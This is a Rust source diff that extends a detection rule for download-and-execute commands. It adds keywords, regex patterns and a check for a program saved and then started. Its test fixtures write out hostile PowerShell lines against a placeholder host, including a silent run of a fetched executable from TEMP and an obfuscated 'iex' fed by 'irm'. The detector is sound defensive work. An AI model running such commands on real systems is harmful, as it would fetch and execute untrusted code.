@@ -32,6 +32,11 @@ pub(super) const RULE: Rule = Rule {
         "wmic",
         "cmstp",
         "hh.exe",
+        "-outfile",
+        "invoke-restmethod",
+        "invoke-webrequest",
+        "\\birm ",
+        "\\biwr ",
     ],
     check: Check::Unit(hits),
     hits: &[
@@ -48,9 +53,18 @@ pub(super) const RULE: Rule = Rule {
         text("`msiexec /q /i http://a.b/x.msi`"),
         text("`nslookup -q=txt a.b | iex`"),
         text("`net use z: \\\\a.b@SSL@443\\x & z:\\y.exe`"),
-        text("`Invoke-WebRequest https://a.b/x.exe -OutFile x.exe; Start-Process x.exe; iex x`"),
+        text("`Invoke-WebRequest https://a.b/x.exe -OutFile x.exe; Start-Process x.exe`"),
+        text(
+            "```powershell\niwr https://a.b/x.exe -OutFile \"$env:TEMP\\x.exe\"\n& \"$env:TEMP\\x.exe\" /S\n```",
+        ),
+        text("```powershell\n& ('{1}{0}' -f 'ex','i') (irm https://a.b/x)\n```"),
     ],
     misses: &[
+        text(
+            "```powershell\nInvoke-WebRequest https://win.rustup.rs/x86_64 -OutFile rustup-init.exe\n.\\rustup-init.exe -y\n```",
+        ),
+        text("```powershell\nInvoke-WebRequest https://a.b/d.csv -OutFile d.csv\nImport-Csv d.csv\n```"),
+        text("```powershell\nInvoke-RestMethod https://a.b/api | ConvertTo-Json\n& $tool --version\n```"),
         text("`irm https://astral.sh/uv/install.ps1 | iex`"),
         text("`iwr -useb https://get.scoop.sh | iex`"),
         text("`Invoke-Expression $line`"),
@@ -64,6 +78,7 @@ patterns! {
     FOUND = concat!(
         r"\b(?:iwr|irm|curl|wget|invoke-webrequest|invoke-restmethod|nslookup|DownloadString)\b[^\n]{0,300}?[|;]\s*(?:iex|invoke-expression)\b[^\n]{0,40}",
         r"|\b(?:iex|invoke-expression)\b[^\n]{0,40}?[\s(&{]{1,4}(?:\(?new-object\s|iwr\b|irm\b|curl\b|wget\b|invoke-webrequest\b|invoke-restmethod\b|\[[^\]\n]{1,40}webclient)[^\n]{0,300}",
+        r"|&\s*(?:\$\w+|\([^)\n]{1,160}\))\s+[\s$(&{]{0,4}(?:\(?new-object\s|iwr\b|irm\b|invoke-webrequest\b|invoke-restmethod\b)[^\n]{0,300}",
         r"|\.Download(?:String|File|Data)\s*\(\s*['\x22][^\n]{1,300}",
         r"|\bmshta(?:\.exe)?\s+['\x22]?(?:https?:|vbscript:|javascript:|\\\\)[^\n]{0,200}",
         r"|\bcertutil(?:\.exe)?\s[^\n]{0,60}?-(?:urlcache|verifyctl|decode\s[^\n]{1,60}&&)[^\n]{0,200}",
@@ -76,13 +91,41 @@ patterns! {
         r"|\bwmic(?:\.exe)?\s[^\n]{0,80}?/format:\s*['\x22]?https?:[^\n]{0,120}"
     );
     ADDRESS = r#"(?:h..ps?://|\b)[a-z0-9][a-z0-9.-]*\.[a-z]{2,}(?::[0-9]+)?(?:/[^\s"'`)|;]*)?"#;
+    SAVED = r"(?:-OutFile\s+|-Destination\s+|\.DownloadFile\([^,\n]{1,200},\s*)(?:\$env:\w+\s*\+\s*)?['\x22]?([^\s'\x22;)]{3,200})";
+    STARTS = r"(?:\b(?:start-process|invoke-item|saps|msiexec|powershell|pwsh|start|cmd|rundll32|regsvr32)\b[^\n;]{0,100}|&\s*['\x22]?[^\n;'\x22]{0,80}|^\s*\.?[\\/]?[^\n;'\x22\s]{0,60}|;\s*['\x22]?\.?[\\/]?[^\n;'\x22\s]{0,60})$";
     SCHEME = r#"h..ps?://[^\s"'`)|;]+"#;
 }
 
 fn hits(unit: &Unit<'_>) -> Vec<Hit> {
     let text = unit.text().as_bytes();
     let found = FOUND.find_iter(text).take(20);
-    found.map(|found| Hit { severity: Some(severity(found.as_bytes())), ..Hit::at(found.range()) }).collect()
+    let at_once =
+        found.map(|found| Hit { severity: Some(severity(found.as_bytes())), ..Hit::at(found.range()) });
+    at_once
+        .chain(SAVED.captures_iter(text).take(20).filter_map(|saved| started(text, &saved.get(1)?)))
+        .collect()
+}
+
+/// A program that is saved in one line and started in another.
+fn started(text: &[u8], saved: &regex::bytes::Match<'_>) -> Option<Hit> {
+    let path = saved.as_bytes();
+    let from = memchr::memrchr2(b'/', b'\\', path).map_or(0, |at| at + 1);
+    let name = &path[from..];
+    let lower = name.to_ascii_lowercase();
+    let is_program = [&b".exe"[..], b".msi", b".ps1", b".bat", b".cmd", b".vbs", b".scr", b".dll", b".js"];
+    let is_variable = name.first() == Some(&b'$');
+    if name.len() < 4 || !is_variable && !is_program.iter().any(|end| lower.ends_with(end)) {
+        return None;
+    }
+    let rest = &text[saved.end()..];
+    let start = memchr::memmem::find_iter(rest, name).take(8).find(|at| {
+        let line = memchr::memrchr(b'\n', &rest[..*at]).map_or(0, |line| line + 1);
+        STARTS.is_match(&rest[line.max(at.saturating_sub(160))..*at])
+    })?;
+    let line = memchr::memrchr(b'\n', &text[..saved.start()]).map_or(0, |line| line + 1);
+    let address = SCHEME.find(&text[line..]).or_else(|| SCHEME.find(text))?;
+    let severity = classify(&String::from_utf8_lossy(address.as_bytes())).weight_of_running();
+    Some(Hit { severity: Some(severity), ..Hit::at(line..saved.end() + start + name.len()) })
 }
 
 fn severity(command: &[u8]) -> Severity {
